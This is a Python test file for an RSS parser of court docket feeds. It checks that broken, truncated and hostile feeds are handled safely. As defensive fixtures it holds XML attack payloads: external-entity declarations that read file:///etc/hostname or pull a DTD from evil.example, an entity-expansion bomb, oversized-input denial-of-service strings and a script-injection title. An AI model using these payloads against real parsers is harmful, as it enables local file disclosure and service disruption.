"""RSS feeds that are broken, cut off or made to harm: the good items come through, or one plain line says why none do."""

from __future__ import annotations

import time
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors import cmecf_rss
from connectors.rss_items import MAX_TAGS
from docketbridge.api import ParsedFeed, RawFeed, UnreadableFeed
from tests.laws import law

FOLDER = Path(__file__).parent.parent / "golden" / "connectors" / "rss"
BUSY = (FOLDER / "a_busy_window.xml").read_bytes()
HEAD = b'<rss version="2.0"><channel><link>https://ecf.zzb.uscourts.gov</link>'


def parse(content: bytes) -> ParsedFeed:
    return cmecf_rss.parse(RawFeed(content=content, name="given.xml"))


def refused(content: bytes) -> str:
    with pytest.raises(UnreadableFeed) as caught:
        parse(content)
    assert "\n" not in str(caught.value)
    return str(caught.value)


@pytest.mark.parametrize("share", [0.2, 0.5, 0.8, 0.99])
def test_a_feed_cut_off_in_the_middle_is_refused_as_a_whole_and_told_where(share: float) -> None:
    message = refused(BUSY[: int(len(BUSY) * share)])
    assert "cut off" in message
    assert "item" in message
    assert "line" in message


def test_a_feed_cut_off_between_two_items_is_refused_too() -> None:
    assert "cut off" in refused(BUSY[: BUSY.rindex(b"<item>")])


@pytest.mark.parametrize(
    ("good", "bad", "what"),
    [
        (b"Wren Tallis", b"Wren & Tallis", "bare &"),
        (b"Wren Tallis", b"Wren &nbsp; Tallis", "nbsp"),
        (b"Wren Tallis", b"Wren < Tallis", "bare <"),
        (b"Wren Tallis", b"Wren <b>Tallis", "mismatch"),
        (b"26-10119-7 ", b"no number ", "case number"),
        (b"Mon, 27 Jul 2026 20:20:00 GMT", b"some day", "pubDate"),
        (b"DktRpt.pl?40119-8<", b"DktRpt.pl?40119<", "guid"),
        (b"[~Util - Set Hearings]", b"nothing", "description"),
    ],
)
def test_one_broken_item_is_a_problem_and_the_others_come_through(good: bytes, bad: bytes, what: str) -> None:
    whole, broken = parse(BUSY), parse(BUSY.replace(good, bad, 1))
    assert len(broken.entries) == len(whole.entries) - 1
    (problem,) = broken.problems
    assert problem.where == "item 11"
    assert what in problem.what
    assert 0 < len(problem.sample) <= 200
    assert broken.refused == whole.refused


def test_an_item_without_its_end_is_a_problem_and_the_next_one_is_read() -> None:
    place = BUSY.index(b"</item>")
    read = parse(BUSY[:place] + BUSY[place + 7 :])
    assert [problem.where for problem in read.problems] == ["item 1"]
    assert len(read.entries) == len(parse(BUSY).entries) - 1


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
        b'<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    ],
)
def test_a_feed_that_declares_entities_is_refused(doctype: bytes) -> None:
    assert "entities" in refused(BUSY.replace(b"<rss", doctype + b"<rss", 1))


@pytest.mark.parametrize(
    "content",
    [
        HEAD + b"<a>" * 400_000,
        HEAD + b"<a/>" * (MAX_TAGS + 1) + b"</channel></rss>",
        HEAD + b"<item><title>" + b"x" * 12_000_000,
        HEAD + b"<!DOCTYPE" * 200_000 + b"</channel></rss>",
        HEAD + b"</rss><!-- -->" * 4_000 + b"x",
        b"<?xml version='1.0'?><feed><rss/></feed>",
        b"<rss></rss>",
        HEAD + b"</channel></rss>" + HEAD + b"</channel></rss>",
    ],
    ids=["one tag", "too many tags", "a huge text", "doctypes", "ends", "other xml", "no channel", "two feeds"],
)
def test_what_is_made_to_harm_is_refused_soon(content: bytes) -> None:
    began = time.monotonic()
    refused(content)
    assert time.monotonic() - began < 5


@pytest.mark.parametrize(
    "description",
    ["Type: " * 3_000, "Chapter:" + " " * 15_000, "[" * 9_000, "[x]" + "(" * 9_000, "<a " * 5_000, "[" + "] [" * 6_000],
)
def test_no_description_makes_reading_slow(description: str) -> None:
    content = BUSY.replace(b"[None] ", description.replace("<", "&lt;").encode(), 1)
    began = time.monotonic()
    parse(content)
    assert time.monotonic() - began < 1


def test_items_that_all_are_broken_are_problems_each() -> None:
    read = parse(HEAD + b"<item>" * 10_000 + b"</channel></rss>")
    assert (len(read.entries), len(read.problems), read.window) == (0, 10_000, None)


def test_nul_bytes_and_other_controls_are_dropped() -> None:
    assert parse(BUSY.replace(b"Wren", b"W\x00r\x01en")) == parse(BUSY)


@pytest.mark.parametrize("declared", [b"UTF-8", b"UTF-16", b"no-such-encoding", b"ISO-8859-1"])
def test_the_text_is_right_whatever_encoding_is_declared(declared: bytes) -> None:
    for content in (BUSY, BUSY.decode("iso-8859-1").encode()):
        assert parse(content.replace(b"ISO-8859-1", declared, 1)) == parse(BUSY)


def test_encodings_may_be_mixed_within_a_feed() -> None:
    mixed = BUSY.replace(b"Wren Tallis", "Noëlla Tallis".encode())
    names = [entry.case_name for entry in parse(mixed).entries]
    assert "Renée Quillfeather" in names
    assert "Noëlla Tallis" in names


def test_half_a_character_spoils_no_more_than_itself() -> None:
    names = [entry.case_name for entry in parse(BUSY.replace(b"Wren Tallis", "Wren Tallis “".encode()[:-1])).entries]
    assert "Wren Tallis \N{REPLACEMENT CHARACTER}" in names


def test_a_script_in_a_title_stays_text() -> None:
    read = parse(BUSY.replace(b"Wren Tallis", b"&lt;script&gt;alert(1)&lt;/script&gt;"))
    assert "<script>alert(1)</script>" in [entry.case_name for entry in read.entries]


def outcome(content: bytes) -> tuple[ParsedFeed | None, str]:
    try:
        return parse(content), ""
    except UnreadableFeed as fault:
        return None, str(fault)


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    content = draw(st.sampled_from([path.read_bytes() for path in sorted(FOLDER.glob("*.xml"))]))
    for _ in range(draw(st.integers(1, 4))):
        place = draw(st.integers(0, len(content)))
        length = draw(st.integers(0, 40))
        put = draw(
            st.one_of(
                st.binary(max_size=12),
                st.sampled_from([b"<item>", b"</item>", b"&", b"]]>", b"[Sealed Document]", b"<!--", b"\xff"]),
            )
        )
        content = content[:place] + put + content[place + length :]
    return content


@law(150)
@given(
    st.one_of(mutated(), st.binary(max_size=300), st.binary(max_size=200).map(lambda middle: HEAD + middle + b"</channel></rss>"))
)
def test_any_bytes_give_a_feed_or_a_plain_refusal_and_redact_lawfully(content: bytes) -> None:
    redacted = cmecf_rss.redact(content)
    read, fault = outcome(content)
    if read is None:
        assert fault.startswith("given.xml: ")
        return
    assert parse(redacted) == read
    assert all(len(problem.sample) <= 200 for problem in read.problems)


@law(40)
@given(st.permutations(range(6)))
def test_the_order_of_items_changes_no_entry(order: list[int]) -> None:
    start, end = BUSY.index(b"<item>"), BUSY.index(b"</channel>")
    items = [b"<item>" + piece for piece in BUSY[start:end].split(b"<item>")[1:]][:6]
    told = parse(BUSY[:start] + b"".join(items[place] for place in order) + BUSY[end:])
    kept = {(entry.pacer_case_id, entry.sequence, entry.entered_at, frozenset(entry.events)) for entry in told.entries}
    plain = parse(BUSY[:start] + b"".join(items) + BUSY[end:])
    assert kept == {(entry.pacer_case_id, entry.sequence, entry.entered_at, frozenset(entry.events)) for entry in plain.entries}
    assert told.window == plain.window


def test_redacting_never_fails_on_what_is_no_feed(redacts_lawfully: Callable[..., bytes]) -> None:
    for content in (b"", b"\x1f\x8b", b"<item>", BUSY[:500]):
        assert isinstance(cmecf_rss.redact(content), bytes)
    redacts_lawfully(cmecf_rss, BUSY)
